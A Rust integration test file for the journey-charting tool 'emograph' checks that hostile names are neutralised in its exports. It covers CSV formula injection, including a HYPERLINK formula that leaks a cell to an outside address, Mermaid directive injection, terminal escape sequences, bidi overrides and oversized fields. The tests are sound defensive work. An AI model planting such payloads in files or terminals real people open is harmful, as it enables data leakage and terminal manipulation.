// A test reports failure by panicking: unwrap and expect say where (the library may not).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Journeys from strangers (issue #19): what a hostile name, case or scale does to every file
//! and terminal emograph writes. Each test builds the hostile input itself and checks the output
//! as its reader gets it: a spreadsheet's cells, Mermaid's grammar, XML, a terminal.

mod cli_common;
use cli_common::*;

use std::path::{Path, PathBuf};
use std::process::Command;

use emograph::io::to_ron_string;
use emograph::model::{Case, Journey, Phase, Touchpoint};

/// A journey of three touchpoints and `cases` cases with every text field given by `name`.
fn journey_named(name: &str, cases: usize) -> Journey {
    let mut journey = Journey {
        title: "Hostile names".into(),
        phases: vec![Phase::new("during", "During")],
        ..Journey::default()
    };
    for t in 0..3 {
        let mut touchpoint = Touchpoint::new(&format!("t{t}"), &format!("{name} {t}"), "during");
        touchpoint.channel = "web".into();
        journey.touchpoints.push(touchpoint);
    }
    for i in 0..cases {
        let mut case = Case::new(&format!("c{i}"), name);
        case.segment = if i % 2 == 0 {
            name.into()
        } else {
            "regular".into()
        };
        for t in 0..3 {
            case.scores
                .insert(format!("t{t}"), [-4.5, 2.0, -1.0][t] + (i % 3) as f64 * 0.5);
        }
        journey.cases.push(case);
    }
    journey
}

fn path_str(path: &Path) -> &str {
    path.to_str().expect("temporary paths are UTF-8")
}

struct Scratch {
    dir: tempfile::TempDir,
}

impl Scratch {
    fn new() -> Self {
        Self {
            dir: tempfile::tempdir().expect("a temporary folder"),
        }
    }
    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }
    /// The journey as a stranger's file: written as RON text directly, since `save_journey`
    /// refuses to write what `check` would refuse, which is what these tests hand to `check`.
    fn journey(&self, journey: &Journey) -> PathBuf {
        let path = self.path("journey.ron");
        let text = to_ron_string(journey).expect("the journey serialises");
        std::fs::write(&path, text).expect("the journey is written");
        path
    }
    fn file(&self, name: &str, text: &str) -> PathBuf {
        let path = self.path(name);
        std::fs::write(&path, text).expect("the file is written");
        path
    }
}

// ---------------------------------------------------------------------------------------------
// 1. CSV formula injection

const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")";

fn cells(csv_text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text.as_bytes())
        .records()
        .map(|r| {
            r.expect("the export is CSV")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect()
}

fn assert_no_formula(csv_text: &str) {
    let rows = cells(csv_text);
    assert!(rows.len() > 1, "{csv_text}");
    for row in &rows {
        for cell in row {
            let number = cell.parse::<f64>().is_ok();
            assert!(
                number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would evaluate {cell:?} in\n{csv_text}"
            );
        }
    }
}

#[test]
fn every_csv_export_neutralises_formulas_and_keeps_negative_numbers() {
    let scratch = Scratch::new();
    let input = scratch.journey(&journey_named(FORMULA, 6));
    for view in ["overall", "patterns", "segments"] {
        let out = scratch.path(&format!("{view}.csv"));
        let run = emograph(&[
            "export",
            path_str(&input),
            "-o",
            path_str(&out),
            "--view",
            view,
            "--k",
            "2",
        ]);
        assert!(run.status.success(), "{run:?}");
        let text = std::fs::read_to_string(&out).expect("the CSV was written");
        assert_no_formula(&text);
        assert!(
            cells(&text)
                .iter()
                .flatten()
                .any(|c| c.starts_with(&format!("'{FORMULA}"))),
            "{view}: {text}"
        );
        if view != "patterns" {
            // Negative means stay numbers a spreadsheet can add up.
            assert!(
                cells(&text)
                    .iter()
                    .flatten()
                    .any(|c| c.starts_with('-') && c.parse::<f64>().is_ok()),
                "{view}: {text}"
            );
        }
    }
    let run = emograph(&["stats", path_str(&input), "--format", "csv"]);
    assert!(run.status.success(), "{run:?}");
    let text = String::from_utf8_lossy(&run.stdout);
    assert_no_formula(&text);
    assert!(
        cells(&text)
            .iter()
            .flatten()
            .any(|c| c.starts_with(&format!("'{FORMULA}"))),
        "{text}"
    );
}

// ---------------------------------------------------------------------------------------------
// 2. Mermaid: no user text opens a comment or a directive

fn mermaid_round_trip(journey: &Journey) -> (String, Journey) {
    use emograph::io::mermaid::{MermaidSource, parse_mermaid, to_mermaid};
    let text = to_mermaid(journey, MermaidSource::AllCases);
    let back = parse_mermaid(&text, Path::new("export.mmd"))
        .unwrap_or_else(|e| panic!("the export re-imports: {e:?}\n{text}"));
    (text, back)
}

#[test]
fn an_unscored_touchpoint_named_like_a_directive_does_not_swallow_the_diagram() {
    for hostile in [
        "%%{x: [",
        "%%{init: {\"theme\": \"dark\"}}%%",
        "}%% %%{wrap}%%",
    ] {
        let mut journey = journey_named("Step", 4);
        journey
            .touchpoints
            .insert(1, Touchpoint::new("hostile", hostile, "during"));
        journey.title = format!("Title {hostile}");
        let (text, back) = mermaid_round_trip(&journey);
        let names: Vec<&str> = back.touchpoints.iter().map(|t| t.name.as_str()).collect();
        assert_eq!(
            names,
            ["Step 0", "Step 1", "Step 2"],
            "{hostile:?}:\n{text}"
        );
        assert_eq!(back.title, journey.title, "{text}");
        assert!(!text.contains("%%{"), "{text}");
        // And the re-imported journey exports to the same diagram again.
        let (again, _) = mermaid_round_trip(&back);
        assert_eq!(
            again
                .lines()
                .filter(|l| !l.contains("left out"))
                .collect::<Vec<_>>(),
            text.lines()
                .filter(|l| !l.contains("left out"))
                .collect::<Vec<_>>()
        );
    }
}

#[test]
fn a_scored_task_named_like_a_directive_reads_back_by_name() {
    let hostile = "%%{init: {\"theme\": \"dark\"}}%%";
    let journey = journey_named(hostile, 2);
    let (text, back) = mermaid_round_trip(&journey);
    assert!(!text.contains("%%{"), "{text}");
    let names: Vec<String> = back.touchpoints.iter().map(|t| t.name.clone()).collect();
    let expected: Vec<String> = journey.touchpoints.iter().map(|t| t.name.clone()).collect();
    assert_eq!(names, expected, "{text}");
}

// ---------------------------------------------------------------------------------------------
// 2. Control characters, bidi controls and unbounded text are refused by `check`, located

/// `check` on `journey`: the exit code and what it printed to stderr and stdout.
fn check(journey: &Journey) -> (bool, String) {
    let scratch = Scratch::new();
    let path = scratch.journey(journey);
    let run = emograph(&["check", path_str(&path)]);
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
    (run.status.success(), text)
}

/// `FILE:LINE:COL: …` with the words in it, and nothing a terminal would obey.
fn assert_refused_at(journey: &Journey, words: &[&str]) {
    let (ok, text) = check(journey);
    assert!(!ok, "check accepted it:\n{text}");
    assert!(
        text.lines().any(|line| {
            line.contains("journey.ron:")
                && line
                    .split(':')
                    .nth(1)
                    .is_some_and(|n| n.parse::<usize>().is_ok())
                && words.iter().all(|w| line.contains(w))
        }),
        "no located line with {words:?}:\n{text}"
    );
    assert!(
        !text.contains('\u{1b}'),
        "an ESC reached the terminal: {text:?}"
    );
}

#[test]
fn check_refuses_control_characters_in_any_text_field_with_their_place() {
    let mut journey = journey_named("Fine", 2);
    journey.touchpoints[0].name = "A\u{1}B".into();
    assert_refused_at(&journey, &["U+0001", "character 2", "control"]);

    let mut journey = journey_named("Fine", 2);
    journey.cases[1].segment = "\u{1b}]0;pwned\u{7}gold".into();
    assert_refused_at(&journey, &["U+001B", "control"]);

    let mut journey = journey_named("Fine", 2);
    journey.touchpoints[2].channel = "web\u{9b}31m".into();
    assert_refused_at(&journey, &["U+009B", "control"]);

    // Tabs, line feeds and CRLF line ends stay allowed (descriptions and notes have lines).
    let mut journey = journey_named("Fine", 2);
    journey.description = "Line one\r\nline two\tand a tab".into();
    let (ok, text) = check(&journey);
    assert!(ok, "{text}");
}

#[test]
fn check_refuses_bidi_controls_that_would_reorder_a_label() {
    for control in ['\u{202E}', '\u{2066}', '\u{200F}', '\u{061C}'] {
        let mut journey = journey_named("Fine", 2);
        journey.owners.push(emograph::model::Owner {
            id: "ann".into(),
            name: format!("Ann{control}"),
            role: String::new(),
            process: String::new(),
        });
        let code = format!("U+{:04X}", u32::from(control));
        assert_refused_at(&journey, &[code.as_str(), "character 4", "bidi"]);
    }
}

#[test]
fn every_text_field_is_bounded() {
    let long = "p".repeat(200_000);
    let mut journey = journey_named("Fine", 2);
    journey.phases[0].name = long.clone();
    assert_refused_at(&journey, &["phase's name", "longer than"]);
    let mut journey = journey_named("Fine", 2);
    journey.touchpoints[1].process = long.clone();
    assert_refused_at(&journey, &["process", "longer than"]);
    let mut journey = journey_named("Fine", 2);
    journey.cases[0].segment = long;
    assert_refused_at(&journey, &["segment", "longer than"]);
}

#[test]
fn a_scale_wider_than_a_survey_scale_is_refused() {
    let mut journey = journey_named("Fine", 2);
    journey.scale.min = -1_000_000.0;
    journey.scale.max = 1_000_000.0;
    assert_refused_at(&journey, &["scale", "spans more than"]);
}

// ---------------------------------------------------------------------------------------------
// 2. The terminal never gets an ESC sequence from user text

#[test]
fn tables_and_check_messages_show_escape_sequences_instead_of_sending_them() {
    let scratch = Scratch::new();
    let mut csv_text = String::from("case,segment,Start,D\u{1b}]0;pwned\u{7}rop,End\u{9b}2J\n");
    for i in 0..6 {
        csv_text.push_str(&format!("c{i},\u{1b}[2Jgold,3,-4,-4\n"));
    }
    let input = scratch.file("cases.csv", &csv_text);
    for verb in ["stats", "critical", "patterns"] {
        let run = emograph(&[verb, path_str(&input)]);
        assert!(run.status.success(), "{run:?}");
        let out = String::from_utf8_lossy(&run.stdout);
        assert!(
            !out.contains(['\u{1b}', '\u{9b}', '\u{7}']),
            "{verb}: {out:?}"
        );
        if verb != "patterns" {
            assert!(out.contains("D\\u{1b}]0;pwned\\u{7}rop"), "{verb}: {out}");
        }
    }
    let broken = scratch.file("broken.ron", "(version: 1, \u{1b}]0;pwned\u{7}: 3)\n");
    let run = emograph(&["check", path_str(&broken)]);
    assert!(!run.status.success());
    let out = String::from_utf8_lossy(&run.stdout);
    assert!(out.contains("found `\\u{1b}`"), "{out}");
    assert!(!out.contains('\u{1b}'), "{out:?}");
}

// ---------------------------------------------------------------------------------------------
// 2. SVG stays XML, and no label can be reordered by what a name holds

/// A CSV of cases whose touchpoint and segment names hold control characters, an open
/// right-to-left override, an emoji and zero-width characters (CSV input is not checked like a
/// journey file, so the painters must cope on their own).
fn hostile_csv(scratch: &Scratch) -> PathBuf {
    let mut text = String::from(
        "case,segment,\"A\u{1}B\",\"Ann\u{202E} wait\",\"Fun 👩\u{200D}👧\u{200B}\",\"End\u{7f}\"\n",
    );
    for i in 0..8 {
        let segment = if i % 2 == 0 {
            "gold\u{202E}"
        } else {
            "x\u{1b}[2J"
        };
        text.push_str(&format!("c{i},{segment},3,-4.5,-4,{}\n", i % 3));
    }
    scratch.file("hostile.csv", &text)
}

fn assert_clean_markup(text: &str, what: &str) {
    let bad = text.chars().find(|&c| {
        emograph::model::is_bidi_control(c) || (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
    });
    assert!(bad.is_none(), "{what} holds {bad:?}");
}

#[test]
fn svg_exports_of_hostile_names_parse_as_xml_without_bidi_or_control_characters() {
    let scratch = Scratch::new();
    let input = hostile_csv(&scratch);
    for view in ["overall", "patterns", "pattern:1", "segments"] {
        let out = scratch.path("chart.svg");
        let run = emograph(&[
            "export",
            path_str(&input),
            "-o",
            path_str(&out),
            "--view",
            view,
            "--k",
            "2",
        ]);
        assert!(run.status.success(), "{view}: {run:?}");
        let svg = std::fs::read_to_string(&out).expect("the SVG was written");
        if let Err(error) = roxmltree::Document::parse(&svg) {
            panic!("{view}: the SVG is not XML: {error}");
        }
        assert_clean_markup(&svg, view);
        assert!(!svg.contains("👩"), "{view}: an emoji the font cannot draw");
    }
    let report = scratch.path("report.html");
    let run = emograph(&["report", path_str(&input), "-o", path_str(&report)]);
    assert!(run.status.success(), "{run:?}");
    let html = std::fs::read_to_string(&report).expect("the report was written");
    assert_clean_markup(&html, "the report");
}

// ---------------------------------------------------------------------------------------------
// 3. Small files that asked for huge exports

fn render_views(journey: Journey, views: &[&str]) -> Vec<(String, String, Vec<u8>)> {
    use emograph::analysis::{Analysis, AnalysisSettings, Dataset};
    use emograph::chart::{ChartOptions, Theme, ViewSpec, view_scene};
    use emograph::export::{ExportSize, render_png, render_svg};
    let settings = AnalysisSettings {
        k: Some(2),
        ..AnalysisSettings::default()
    };
    let analysis = Analysis::compute(Dataset::from_journey(journey), &settings);
    let dataset = &analysis.dataset;
    let size = ExportSize {
        width: 800,
        height: 450,
        scale: 1.0,
    };
    views
        .iter()
        .map(|name| {
            let view: ViewSpec = name.parse().expect("a view name");
            let scene = view_scene(
                &dataset.journey,
                Some(&analysis),
                &view,
                &ChartOptions::default(),
                &Theme::default(),
            )
            .expect("the view has a scene");
            let svg = render_svg(&scene, &size).expect("the SVG renders");
            let png = render_png(&scene, &size).expect("the PNG renders");
            ((*name).to_owned(), svg, png)
        })
        .collect()
}

#[test]
fn a_scale_of_a_million_draws_at_most_twenty_gridlines() {
    // Refused by `check` now, but a scene can still be built from such a journey in memory.
    let mut journey = journey_named("Step", 3);
    journey.scale.min = -1_000_000.0;
    journey.scale.max = 1_000_000.0;
    journey.scale.anchors.clear();
    let scene = emograph::chart::base_scene(&journey, &emograph::chart::Theme::default());
    assert!(scene.y_ticks.len() <= 20, "{} ticks", scene.y_ticks.len());
    for (name, svg, png) in render_views(journey, &["overall", "cases"]) {
        assert!(
            svg.len() < 1_000_000,
            "{name}: the SVG is {} bytes",
            svg.len()
        );
        assert!(!png.is_empty());
        let labels = svg.matches("<text").count();
        assert!(labels < 100, "{name}: {labels} texts");
    }
}

#[test]
fn ten_names_of_ten_thousand_characters_export_in_seconds() {
    let mut journey = journey_named("Step", 4);
    let long = |c: char| {
        (0..9_990)
            .map(|i| if i % 97 == 96 { ' ' } else { c })
            .collect::<String>()
    };
    journey.phases[0].name = long('p');
    for (i, touchpoint) in journey.touchpoints.iter_mut().enumerate() {
        touchpoint.name = long(char::from(b'a' + i as u8));
    }
    for i in 3..10 {
        let mut touchpoint = Touchpoint::new(&format!("t{i}"), &long('x'), "during");
        touchpoint.channel = long('c');
        journey.touchpoints.push(touchpoint);
    }
    for case in &mut journey.cases {
        case.label = "W".repeat(9_990);
        case.segment = "S".repeat(9_990);
    }
    assert!(journey.validate().is_empty(), "{:?}", journey.validate());
    let started = std::time::Instant::now();
    let rendered = render_views(journey, &["overall", "cases", "segments"]);
    let elapsed = started.elapsed();
    for (name, svg, _) in &rendered {
        // Labels are cut to fit: nowhere near 10 000 characters of text each.
        assert!(
            svg.len() < 200_000,
            "{name}: the SVG is {} bytes",
            svg.len()
        );
    }
    // Trying every prefix took 38 s per SVG (release build); a binary search takes well under a
    // second. 20 s leaves a debug build on a loaded machine ample room.
    assert!(elapsed.as_secs() < 20, "took {elapsed:?}");
}

// ---------------------------------------------------------------------------------------------
// 4. Portable exports: no font lookup needed

#[test]
fn text_as_paths_needs_no_font_and_keeps_the_words_for_screen_readers() {
    let scratch = Scratch::new();
    let input = scratch.journey(&journey_named("Queue & wait", 4));
    let out = scratch.path("chart.svg");
    let run = emograph(&[
        "export",
        path_str(&input),
        "-o",
        path_str(&out),
        "--text-as-paths",
    ]);
    assert!(run.status.success(), "{run:?}");
    let svg = std::fs::read_to_string(&out).expect("the SVG was written");
    let document = roxmltree::Document::parse(&svg).expect("the SVG is XML");
    let texts = document
        .descendants()
        .filter(|n| n.has_tag_name("text"))
        .count();
    assert_eq!(texts, 0, "text left as text");
    let labels: Vec<&str> = document
        .descendants()
        .filter_map(|n| n.attribute("aria-label"))
        .collect();
    assert!(labels.contains(&"Queue & wait 1"), "{labels:?}");
    assert!(
        labels.iter().any(|l| l.contains("Hostile names")),
        "{labels:?}"
    );

    // Outlines need no font: the embedded one would be dead weight.
    assert!(!svg.contains("@font-face"), "a font in an outlined SVG");

    // rsvg-convert with no fonts at all draws it (with text as text it would draw boxes: librsvg
    // ignores `@font-face`), words included: dark ink where the title is.
    let empty = scratch.file(
        "fonts.conf",
        "<?xml version=\"1.0\"?><fontconfig></fontconfig>",
    );
    let png = scratch.path("rsvg.png");
    match Command::new("rsvg-convert")
        .env("FONTCONFIG_FILE", &empty)
        .arg(&out)
        .arg("-o")
        .arg(&png)
        .output()
    {
        Ok(output) => {
            assert!(output.status.success(), "{output:?}");
            let image = image::open(&png).expect("rsvg wrote a PNG").to_rgba8();
            let (width, height) = image.dimensions();
            // The title sits in the top strip of the chart.
            let inked = image
                .enumerate_pixels()
                .filter(|(x, y, p)| *y < height / 12 && *x < width && p[3] > 128 && p[0] < 100)
                .count();
            assert!(inked > 200, "only {inked} dark pixels where the title is");
        }
        Err(_) => {
            assert!(
                std::env::var("EMOGRAPH_REQUIRE_RSVG").as_deref() != Ok("1"),
                "EMOGRAPH_REQUIRE_RSVG=1 but rsvg-convert is not installed"
            );
            eprintln!("SKIPPED the rsvg-convert check: rsvg-convert is not installed");
        }
    }
}

/// Standard base64 (with padding), to read the fonts out of `data:` URLs.
fn base64_decode(text: &str) -> Vec<u8> {
    let value = |c: u8| match c {
        b'A'..=b'Z' => c - b'A',
        b'a'..=b'z' => c - b'a' + 26,
        b'0'..=b'9' => c - b'0' + 52,
        b'+' => 62,
        b'/' => 63,
        _ => panic!("{:?} is not base64", char::from(c)),
    };
    let mut out = Vec::new();
    for chunk in text.trim_end_matches('=').as_bytes().chunks(4) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &c)| n | (u32::from(value(c)) << (18 - 6 * i)));
        out.extend(n.to_be_bytes()[1..chunk.len()].iter().copied());
    }
    out
}

/// The fonts of a document's `@font-face` rules, by `font-weight`: each rule's weight and the
/// font its `data:` URL holds.
fn embedded_fonts(document: &str) -> Vec<(String, Vec<u8>)> {
    document
        .split("@font-face")
        .skip(1)
        .map(|rule| {
            let weight = rule
                .split("font-weight: ")
                .nth(1)
                .and_then(|w| w.split(';').next())
                .expect("a font-weight")
                .to_owned();
            let data = rule
                .split("base64,")
                .nth(1)
                .and_then(|d| d.split(')').next())
                .expect("a data URL");
            (weight, base64_decode(data))
        })
        .collect()
}

/// Asserts that `font` maps every character of `chars` to a glyph as wide as the bundled font's
/// (`full`), and that it is a small part of it.
fn assert_covers(font: &[u8], full: &[u8], chars: &std::collections::BTreeSet<char>, what: &str) {
    let part = ttf_parser::Face::parse(font, 0).expect("the embedded font parses");
    let whole = ttf_parser::Face::parse(full, 0).expect("the bundled font parses");
    for &c in chars {
        let Some(old) = whole.glyph_index(c) else {
            continue; // drawn as □ by the painters, or a browser's fallback in the report
        };
        let new = part
            .glyph_index(c)
            .unwrap_or_else(|| panic!("{what}: {c:?} has no glyph"));
        assert_ne!(new.0, 0, "{what}: {c:?} maps to .notdef");
        assert_eq!(
            part.glyph_hor_advance(new),
            whole.glyph_hor_advance(old),
            "{what}: {c:?} is another width"
        );
    }
    assert!(
        font.len() * 10 < full.len(),
        "{what}: {} bytes of the font's {}",
        font.len(),
        full.len()
    );
}

#[test]
fn an_exported_svg_carries_the_part_of_the_font_it_draws_with() {
    use emograph::assets::{SANS_BOLD, SANS_REGULAR};
    let scratch = Scratch::new();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    for (journey, view) in [
        ("bank-complaint-he.ron", "overall"),
        ("cinema-evening.ron", "patterns"),
    ] {
        let out = scratch.path("chart.svg");
        let input = root.join("journeys").join(journey);
        let run = emograph(&[
            "export",
            path_str(&input),
            "-o",
            path_str(&out),
            "--view",
            view,
        ]);
        assert!(run.status.success(), "{run:?}");
        let svg = std::fs::read_to_string(&out).expect("the SVG was written");
        let document = roxmltree::Document::parse(&svg).expect("the SVG is XML");
        // What each weight draws.
        let mut regular = std::collections::BTreeSet::new();
        let mut bold = std::collections::BTreeSet::new();
        for text in document.descendants().filter(|n| n.has_tag_name("text")) {
            let set = if text.attribute("font-weight") == Some("bold") {
                &mut bold
            } else {
                &mut regular
            };
            set.extend(text.text().unwrap_or_default().chars());
        }
        assert!(!regular.is_empty() && !bold.is_empty(), "{journey}");
        let fonts = embedded_fonts(&svg);
        let weights: Vec<&str> = fonts.iter().map(|(w, _)| w.as_str()).collect();
        assert_eq!(
            weights,
            ["normal", "bold"],
            "{journey}: one face per weight"
        );
        assert_covers(&fonts[0].1, SANS_REGULAR, &regular, journey);
        assert_covers(&fonts[1].1, SANS_BOLD, &bold, journey);
        if journey.ends_with("-he.ron") {
            assert!(regular.contains(&'ש'), "{regular:?}");
        }
    }
}

#[test]
fn the_report_embeds_the_font_once_and_wraps_long_names() {
    let scratch = Scratch::new();
    let mut journey = journey_named("Step", 4);
    journey.touchpoints[0].name = "N".repeat(9_990);
    let input = scratch.journey(&journey);
    let out = scratch.path("report.html");
    let run = emograph(&["report", path_str(&input), "-o", path_str(&out)]);
    assert!(run.status.success(), "{run:?}");
    let html = std::fs::read_to_string(&out).expect("the report was written");
    assert_eq!(
        html.matches("@font-face").count(),
        2,
        "regular and bold, once"
    );
    assert!(html.contains("src: url(data:font/ttf;base64,"));
    assert!(html.contains("overflow-wrap: anywhere"));
}

#[test]
fn a_hebrew_report_embeds_the_characters_it_shows_once_and_small() {
    use emograph::assets::{SANS_BOLD, SANS_REGULAR};
    let scratch = Scratch::new();
    let input = Path::new(env!("CARGO_MANIFEST_DIR")).join("journeys/bank-complaint-he.ron");
    let out = scratch.path("report.html");
    let run = emograph(&["report", path_str(&input), "-o", path_str(&out)]);
    assert!(run.status.success(), "{run:?}");
    let html = std::fs::read_to_string(&out).expect("the report was written");
    // The whole font, regular and bold, was 1.1 MB of base64 on its own.
    assert!(html.len() < 400_000, "{} bytes", html.len());
    let fonts = embedded_fonts(&html);
    let weights: Vec<&str> = fonts.iter().map(|(w, _)| w.as_str()).collect();
    assert_eq!(
        weights,
        ["normal", "bold"],
        "each weight once, charts included"
    );
    // Every character between the tags (of the page and of its charts) is in both faces:
    // which text is bold is the page's CSS to decide.
    let body = &html[html.find("<body>").expect("a body")..];
    let mut shown = std::collections::BTreeSet::new();
    let mut in_tag = false;
    let mut chars = body.chars();
    while let Some(c) = chars.next() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            '\n' => {}
            '&' if !in_tag => {
                let name: String = chars.by_ref().take_while(|&c| c != ';').collect();
                shown.insert(match name.as_str() {
                    "amp" => '&',
                    "lt" => '<',
                    "gt" => '>',
                    "quot" => '"',
                    "#39" => '\'',
                    other => panic!("the report writes &{other};"),
                });
            }
            c if !in_tag => {
                shown.insert(c);
            }
            _ => {}
        }
    }
    assert!(shown.contains(&'ש') && shown.contains(&'5'), "{shown:?}");
    assert_covers(&fonts[0].1, SANS_REGULAR, &shown, "regular");
    assert_covers(&fonts[1].1, SANS_BOLD, &shown, "bold");
}

#[test]
fn a_mermaid_diagram_with_bidi_controls_imports_without_them() {
    use emograph::io::mermaid::parse_mermaid;
    let text = "journey\n  title Bank\u{202E}\n  section Visit\u{2067}\n    Wait #8238;here: 2: Ann\u{200F}\n";
    let journey =
        parse_mermaid(text, Path::new("d.mmd")).unwrap_or_else(|e| panic!("imports: {e}"));
    assert_eq!(journey.title, "Bank");
    assert_eq!(journey.touchpoints[0].name, "Wait here");
    assert_eq!(journey.cases[0].label, "Ann");
    assert!(journey.validate().is_empty());
}

#[test]
fn a_segment_named_with_200_000_characters_gets_a_short_legend_entry() {
    // A CSV of cases is not checked like a journey file: its texts are bounded only by size.
    let scratch = Scratch::new();
    let long = "S".repeat(200_000);
    let mut text = String::from("case,segment,A,B,C\n");
    for i in 0..6 {
        let segment = if i % 2 == 0 { "g" } else { long.as_str() };
        text.push_str(&format!("c{i},{segment},3,-4,-2\n"));
    }
    let input = scratch.file("long.csv", &text);
    let out = scratch.path("segments.svg");
    let run = emograph(&[
        "export",
        path_str(&input),
        "-o",
        path_str(&out),
        "--view",
        "segments",
    ]);
    assert!(run.status.success(), "{run:?}");
    let svg = std::fs::read_to_string(&out).expect("the SVG was written");
    assert!(svg.len() < 60_000, "the SVG is {} bytes", svg.len());
    assert!(
        svg.contains("SSS…"),
        "the legend entry is cut with an ellipsis"
    );
}
